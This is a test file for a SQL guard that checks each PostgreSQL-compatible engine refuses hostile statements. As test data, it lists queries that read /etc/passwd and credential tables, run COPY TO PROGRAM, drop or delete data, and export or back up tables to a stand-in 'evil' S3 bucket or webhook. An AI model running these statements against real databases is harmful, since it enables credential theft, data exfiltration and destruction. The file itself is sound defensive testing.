/** What the guard refuses on each flavor: functions and tables of the engine that write, leave it, tell of others or block. */
import { beforeAll, describe, expect, test } from 'vitest';
import { entity, withConditions } from '../../../test/fixtures/sql/sqlite-shop.ts';
import { refusalBy } from '../../../test/harness/hostile-statements.ts';
import { allowedTables, type CheckRules, checkSql } from '../../sql-guard/index.ts';
import { postgres } from '../../sql-kit/index.ts';
import { FLAVORS, flavorNamed } from './flavors.ts';

/** Statements of one call. */
const calls = (text: string) =>
  text
    .trim()
    .split(/\n\s*/)
    .map((call) => `SELECT ${call} FROM orders`);

const EVERYWHERE = [
  ...calls(`dblink('host=db', 'SELECT 1')
    dblink_exec('host=db', 'DROP TABLE orders')
    lo_import('/etc/passwd')
    pg_read_file('postgresql.conf')
    pg_ls_dir('.')
    pg_sleep(1)
    pg_cancel_backend(1)
    pg_terminate_backend(1)
    pg_advisory_lock(1)
    set_config('search_path', 'x', false)
    current_setting('is_superuser')
    nextval('s')
    query_to_xml('SELECT 1', true, true, '')
    pg_notify('a', 'b')`),
  'SELECT * FROM pg_catalog.pg_shadow',
  'SELECT * FROM pg_stat_activity',
  'SELECT * FROM information_schema.tables',
  'SELECT * FROM other.public.orders',
  "COPY orders TO PROGRAM 'cat'",
  'DISCARD ALL',
  'RESET ALL',
  'SELECT 1; SELECT 2',
];

const HOSTILE: Readonly<Record<string, readonly string[]>> = {
  postgresql: [],
  alloydb: [
    ...calls(`embedding('model', name)
      google_ml.embedding('model', name)
      ai.generate('prompt')
      google_ml_predict_row('model', '{}')
      google_columnar_engine_add('orders')
      google_columnar_engine_drop('orders')
      alloydb_scann.scann_index_tuning(1)`),
    'SELECT * FROM g_columnar_relations',
    'SELECT * FROM google_ml.models',
    'SELECT * FROM ai.models',
  ],
  citus: [
    ...calls(`run_command_on_workers('SELECT 1')
      run_command_on_all_nodes('SELECT 1')
      run_command_on_shards('orders', 'DELETE FROM %s')
      run_command_on_placements('orders', 'DELETE FROM %s')
      run_command_on_colocated_placements('a', 'b', 'c')
      master_run_on_worker('{a}', '{1}', '{SELECT 1}', true)
      master_add_node('evil', 5432)
      citus_add_node('evil', 5432)
      citus_set_coordinator_host('evil')
      citus_move_shard_placement(1, 'a', 1, 'b', 2)
      master_get_table_ddl_events('orders')
      citus_remote_connection_stats()
      citus_stat_statements_reset()
      create_distributed_table('orders', 'id')
      undistribute_table('orders')
      alter_table_set_access_method('orders', 'columnar')
      worker_partition_query_result('a', 'b', 1, 'c', '{}', '{}', true)
      recover_prepared_transactions()
      columnar.get_storage_id(1)
      citus_table_size('orders')`),
    'SELECT * FROM citus_stat_statements',
    'SELECT * FROM citus_shards',
    'SELECT * FROM pg_dist_node',
    'SELECT * FROM pg_dist_authinfo',
    'SELECT * FROM citus.pg_dist_object',
    'SELECT * FROM run_command_on_workers($cmd$ SELECT 1 $cmd$)',
  ],
  cockroachdb: [
    ...calls(`crdb_internal.force_panic('x')
      crdb_internal.force_error('', '')
      crdb_internal.force_delete_table_data(1)
      crdb_internal.unsafe_upsert_descriptor(1, '')
      crdb_internal.set_vmodule('a=1')
      crdb_internal.read_file('/etc/passwd')
      crdb_internal.write_file('a', 'b')
      crdb_internal.create_tenant(2)
      crdb_internal.node_executable_version()
      cluster_logical_timestamp()
      experimental_follower_read_timestamp()
      follower_read_timestamp()
      gateway_region()
      unique_rowid()
      pg_sleep_until(now())
      orders.crdb_internal_mvcc_timestamp`),
    'SELECT * FROM crdb_internal.cluster_sessions',
    'SELECT * FROM crdb_internal.node_statement_statistics',
    'SELECT * FROM system.users',
    'SELECT * FROM system.public.users',
    'SELECT * FROM [SHOW USERS]',
    'SELECT * FROM [SHOW SESSIONS] AS s',
    'SELECT * FROM [54 AS t]',
    'SELECT * FROM orders@primary',
    "SELECT * FROM orders AS OF SYSTEM TIME '-1h'",
    "EXPORT INTO CSV 's3://evil/x' FROM TABLE orders",
    "BACKUP DATABASE shop INTO 's3://evil/x'",
    'SHOW CLUSTER SETTINGS',
    'SHOW TABLES',
    'CANCEL QUERIES (SELECT 1)',
    "CREATE CHANGEFEED FOR orders INTO 'webhook-https://evil'",
    'EXPLAIN ANALYZE (DEBUG) SELECT 1',
  ],
  materialize: [
    ...calls(`mz_internal.mz_sleep(10)
      mz_sleep(10)
      mz_unsafe.mz_sleep(10)
      mz_unsafe.mz_panic('x')
      mz_now()
      mz_logical_timestamp()
      mz_environment_id()
      mz_version()
      mz_is_superuser()
      pg_cancel_backend(1)
      mz_internal.make_mz_aclitem('a', 'b', 'c')`),
    'SUBSCRIBE orders',
    'SUBSCRIBE (SELECT * FROM orders)',
    'TAIL orders',
    'COPY (SUBSCRIBE orders) TO STDOUT',
    "COPY orders TO 's3://evil/x' WITH (FORMAT = 'csv')",
    'SELECT * FROM mz_internal.mz_sessions',
    'SELECT * FROM mz_catalog.mz_secrets',
    'SELECT * FROM mz_internal.mz_recent_activity_log',
    'SELECT * FROM mz_roles',
    'SELECT * FROM mz_introspection.mz_dataflows',
    'SELECT * FROM orders AS OF 1',
    'SHOW SECRETS',
    'EXPLAIN PLAN FOR SELECT 1',
    'FETCH c',
  ],
  redshift: [
    "UNLOAD ('SELECT * FROM orders') TO 's3://evil/x' IAM_ROLE 'arn'",
    "COPY orders FROM 's3://evil/x' IAM_ROLE 'arn'",
    'SELECT * FROM stl_query',
    'SELECT * FROM stv_sessions',
    'SELECT * FROM svl_qlog',
    'SELECT * FROM svv_external_tables',
    'SELECT * FROM svcs_query_summary',
    'SELECT * FROM sys_query_history',
    'SELECT * FROM sys_query_text',
    'SELECT * FROM pg_catalog.stl_querytext',
    'SELECT * FROM pg_user_info',
    'SELECT * FROM spectrum.sales',
    'SELECT * FROM dev.public.orders',
    'SELECT * FROM mv_tbl__totals__0',
    'SHOW EXTERNAL SCHEMAS FROM DATABASE dev',
    'SELECT TOP 1 * FROM orders',
    'SELECT * INTO #t FROM orders',
    'CANCEL 123',
    ...calls(`pg_get_late_binding_view_cols()
      pg_last_copy_id()
      pg_last_query_id()
      pg_last_unload_count()
      explain_model('m')
      my_lambda_udf(name)
      f_python_udf(name)
      user_is_member_of('a', 'b')`),
  ],
  timescaledb: [
    ...calls(`add_job('proc', '1h')
      run_job(1)
      alter_job(1)
      delete_job(1)
      add_retention_policy('orders', INTERVAL '1 day')
      add_compression_policy('orders', INTERVAL '1 day')
      drop_chunks('orders', older_than => INTERVAL '1 day')
      compress_chunk('c')
      decompress_chunk('c')
      create_hypertable('orders', 'at')
      refresh_continuous_aggregate('a', NULL, NULL)
      detach_chunk('c')
      timescaledb_pre_restore()
      timescaledb_post_restore()
      show_chunks('orders')
      get_telemetry_report()
      hypertable_size('orders')
      approximate_row_count('orders')
      _timescaledb_functions.policy_retention(1, '{}')
      _timescaledb_internal.start_background_workers()
      time_bucket_gapfill('1 microsecond', now())
      histogram(id, 0, 1, 2000000000)`),
    'CALL run_job(1)',
    'SELECT * FROM timescaledb_information.jobs',
    'SELECT * FROM timescaledb_information.job_errors',
    'SELECT * FROM _timescaledb_config.bgw_job',
    'SELECT * FROM _timescaledb_internal._hyper_1_1_chunk',
    'SELECT * FROM _timescaledb_catalog.hypertable',
  ],
  yugabytedb: [
    ...calls(`yb_servers()
      yb_table_properties(1)
      yb_is_local_table(1)
      yb_local_tablets()
      yb_get_current_transaction()
      yb_cancel_transaction('a')
      yb_reset_analyze_statistics(1)
      yb_heap_stats()
      yb_server_region()
      yb_hash_code(id)
      yb_query_diagnostics(1)
      yb_increment_db_catalog_version_with_inval_messages(1, true, '', 1)`),
    'SELECT * FROM yb_active_session_history',
    'SELECT * FROM yb_local_tablets',
    'SELECT * FROM yb_terminated_queries',
  ],
};

/** Tables of the engine's own that a careless semantic layer lists. */
const LISTED: Readonly<Record<string, readonly string[]>> = {
  alloydb: ['google_ml.models', 'g_columnar_relations'],
  citus: ['citus_shards', 'citus.pg_dist_object', 'pg_dist_node'],
  cockroachdb: ['crdb_internal.cluster_sessions', 'system.users'],
  materialize: ['mz_internal.mz_sessions', 'mz_catalog.mz_secrets', 'mz_roles'],
  redshift: ['stl_query', 'sys_query_text', 'catalog_history.x', 'pg_catalog.stl_querytext'],
  timescaledb: ['timescaledb_information.jobs', '_timescaledb_config.bgw_job'],
  yugabytedb: ['yb_active_session_history'],
};

const HONEST: Readonly<Record<string, readonly string[]>> = {
  redshift: [
    "SELECT nvl(name, '-'), listagg(name, ', ') WITHIN GROUP (ORDER BY name) FROM orders GROUP BY 1",
    'SELECT median(id), add_months(max(at), -1) FROM orders',
  ],
  timescaledb: ["SELECT time_bucket('15 minutes', at) AS t, first(id, at), last(id, at) FROM orders GROUP BY t"],
};
const EVERY_HONEST = [
  `SELECT date_trunc('month', at) AS m, count(*) FROM orders WHERE name ILIKE 'a%' GROUP BY 1 ORDER BY 2 DESC LIMIT 5`,
  `WITH x AS (SELECT o.id, o."index" FROM orders AS o) SELECT * FROM x JOIN orders USING (id)`,
];

beforeAll(() => postgres.load?.());

/** Of these rules one has to speak: not one about the size or the reading of statements. */
const RULES = ['function', 'table', 'column', 'syntax', 'not_reading', 'several_statements'];

const columns = [{ name: 'id' }, { name: 'name' }, { name: 'at' }, { name: 'index' }];

describe.each(FLAVORS.map((flavor) => flavor.name))('%s', (name) => {
  const { dialect } = flavorNamed(name)!;
  const listed = LISTED[name] ?? [];
  const tables = [entity('orders', columns), ...listed.map((table) => entity(table, []))];
  const rules: CheckRules = { tables: allowedTables(tables, dialect).tables };
  const underPolicy = withConditions(rules);

  test.each([...EVERYWHERE, ...HOSTILE[name]!])('refuses %s', (sql) => {
    for (const own of [rules, underPolicy]) {
      expect(RULES).toContain(refusalBy((text) => checkSql(text, own), sql).rule);
    }
  });

  test.each(listed)('refuses %s, which the semantic layer lists', (table) => {
    for (const sql of [`SELECT * FROM ${table}`, `SELECT id FROM orders WHERE id IN (SELECT 1 FROM ${table})`]) {
      expect(refusalBy((text) => checkSql(text, rules), sql).rule).toBe('table');
    }
  });

  test.each([...EVERY_HONEST, ...(HONEST[name] ?? [])])('lets pass %s', (sql) => {
    // What cannot be kept apart is refused under a policy, see below.
    const all = dialect.optimizationFence === undefined ? [rules] : [rules, underPolicy];
    for (const own of all) expect(checkSql(sql, own).sql).toMatch(/FROM "?orders"?/);
  });

  test('refuses columns of the engine itself', () => {
    for (const column of dialect.systemColumns ?? []) {
      for (const own of [rules, underPolicy]) {
        expect(refusalBy((text) => checkSql(text, own), `SELECT o.${column} FROM orders AS o`).rule).toBe('column');
      }
    }
  });

  test('keeps a condition that can fail from rows that are not shown, or refuses it', () => {
    const check = () => checkSql('SELECT id FROM orders WHERE 1 / id > 2', underPolicy);
    if (dialect.optimizationFence === undefined) expect(refusalBy(check, '').rule).toBe('unchecked');
    else expect(check().sql).toContain(dialect.optimizationFence);
  });
});

test('engines with a planner of their own do not rely on what only PostgreSQL does', () => {
  const own = FLAVORS.filter(({ dialect }) => dialect.optimizationFence !== ' OFFSET 0').map(({ name }) => name);
  expect(own).toEqual(['cockroachdb', 'materialize', 'redshift']);
});
